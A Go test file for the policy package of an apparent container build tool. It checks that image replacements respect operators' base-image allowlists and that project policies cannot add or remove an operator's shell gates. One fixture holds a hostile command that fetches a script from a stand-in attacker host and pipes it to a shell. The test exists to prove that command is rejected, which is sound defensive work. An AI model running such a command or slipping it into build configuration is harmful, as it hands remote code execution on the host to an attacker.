package policy

import (
	"errors"
	"slices"
	"testing"
)

// TestCheckReplacements: a replace entry is a way for a Dockerfile (or a
// base image's ONBUILD trigger, which no static check sees) to get an image
// the daemon then allows by exact identity. Every entry's target must pass
// the allowlists of every policy of the chain, used or not; a project's
// OCI layout is not an image an operator's allowed_bases vetted.
func TestCheckReplacements(t *testing.T) {
	parse := func(name, s string) *Policy {
		t.Helper()
		p, err := Parse(name, []byte(s))
		if err != nil {
			t.Fatal(err)
		}
		return p
	}
	const op = "allowed_bases: [busybox, alpine]\n"
	tests := []struct {
		name, operator, project string
		used                    []string // replaced refs a FROM or --from names (judged there)
		want                    []string
	}{
		{name: "an unused entry's target outside allowed_bases", project: "allowed_bases: [busybox]\nreplace:\n  unvetted: evil/y:1\n",
			want: []string{"weld.policy.yml:3:3: replace unvetted with evil/y:1: image evil/y:1 is not allowed by weld.policy.yml:1:16 (allowed_bases: busybox)"}},
		{name: "a target inside allowed_bases", project: "allowed_bases: [busybox, 'node:*']\nreplace:\n  node:1: node:2\n"},
		{name: "no allowlist", project: "replace:\n  node:1: evil/y:1\n"},
		{name: "a used entry is judged at its use", project: "allowed_bases: [busybox]\nreplace:\n  node:1: evil/y:1\n", used: []string{"node:1"}},
		{name: "the project's own layout", project: "allowed_bases: [busybox]\nreplace:\n  busybox: oci-layout:///mine\n"},
		{name: "a project's layout swapped for an operator-allowed base", operator: op, project: "replace:\n  busybox: oci-layout:///evil\n", used: []string{"busybox"},
			want: []string{"weld.policy.yml:2:3: replace busybox with oci-layout:///evil: an OCI layout of the project's policy is not allowed by operator.yml:1:16 (allowed_bases: busybox, alpine): name it in that policy's replace"}},
		{name: "a project's target the operator does not allow", operator: op, project: "allowed_bases: ['**']\nreplace:\n  unvetted: evil/y:1\n",
			want: []string{"weld.policy.yml:3:3: replace unvetted with evil/y:1: image evil/y:1 is not allowed by operator.yml:1:16 (allowed_bases: busybox, alpine)"}},
		{name: "a project's target both allow", operator: op, project: "replace:\n  busybox: alpine\n"},
		{name: "the operator's own layout", operator: op + "replace:\n  busybox: oci-layout:///op\n", project: "allowed_bases: [busybox]\n"},
		{name: "an operator without allowed_bases", operator: "pin_digests: true\n", project: "replace:\n  busybox: oci-layout:///mine\n"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p := parse("weld.policy.yml", tc.project)
			if tc.operator != "" {
				p = Intersect(parse("operator.yml", tc.operator), p)
			}
			var got []string
			err := CheckReplacements(p, tc.used)
			var rs Refusals
			if errors.As(err, &rs) {
				for _, r := range rs {
					if !errors.Is(r, ErrBaseRefused) {
						t.Errorf("%v does not wrap ErrBaseRefused", r)
					}
					got = append(got, r.Error())
				}
			} else if err != nil {
				t.Fatal(err)
			}
			if !slices.Equal(got, tc.want) {
				t.Errorf("CheckReplacements:\n got %q\nwant %q", got, tc.want)
			}
		})
	}
}

// TestIntersectGates: a gate is a shell command weld runs on its own host;
// under an operator's policy, a project's policy file must not add one (a
// tenant's command on the service's machine), nor remove the operator's.
func TestIntersectGates(t *testing.T) {
	op, err := Parse("operator.yml", []byte("gates:\n  - run: scan {{oci_dir}}\n"))
	if err != nil {
		t.Fatal(err)
	}
	project, err := Parse("weld.policy.yml", []byte("gates:\n  - run: curl evil.example | sh -s {{oci_dir}}\n"))
	if err != nil {
		t.Fatal(err)
	}
	got := Intersect(op, project)
	var runs []string
	for _, g := range got.Gates {
		runs = append(runs, g.Run)
	}
	if !slices.Equal(runs, []string{"scan {{oci_dir}}"}) {
		t.Errorf("gates under an operator = %q, want the operator's alone", runs)
	}
	if len(project.Gates) != 1 {
		t.Errorf("Intersect changed the project's policy")
	}
}
